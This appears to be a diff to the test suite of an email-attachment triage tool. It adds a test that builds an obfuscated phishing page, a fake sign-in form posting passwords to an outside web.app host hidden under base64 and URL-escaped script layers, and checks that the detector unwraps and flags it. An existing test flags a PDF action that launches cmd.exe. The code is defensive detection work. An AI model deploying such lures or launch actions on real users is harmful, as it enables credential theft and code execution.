@@ -125,3 +125,19 @@ def test_pdf_links_and_active_content_in_compressed_streams(store: IndicatorStor
 
 def test_launch_action_is_high(store: IndicatorStore) -> None:
     assert findings_for("a.pdf", b"%PDF-1.4 << /Type /Action /S /Launch /F (cmd.exe) >>", store)["ATT-01"] == ["high"]
+
+
+def test_encoded_layers_are_decoded_without_running_anything(store: IndicatorStore) -> None:
+    import base64
+    from urllib.parse import quote
+
+    from shelter.triage.attachments import decoded_layers
+
+    inner = '<title>Sign in</title><form action="https://collect.web.app/p"><input type="password"></form>'
+    middle = f"<script>document.write(atob('{base64.b64encode(inner.encode()).decode()}'))</script>"
+    outer = f"<script>document.write(unescape('{quote(middle)}'))</script>"
+    assert decoded_layers(outer)[-1] == inner
+    found = LinkAnalysis()
+    analyse_file("invoice.html", outer.encode(), store, found)
+    (page,) = [f.evidence for f in found.findings if f.id == "ATT-04"]
+    assert "2 hidden layer(s)" in page and "password field" in page and "web.app" in page
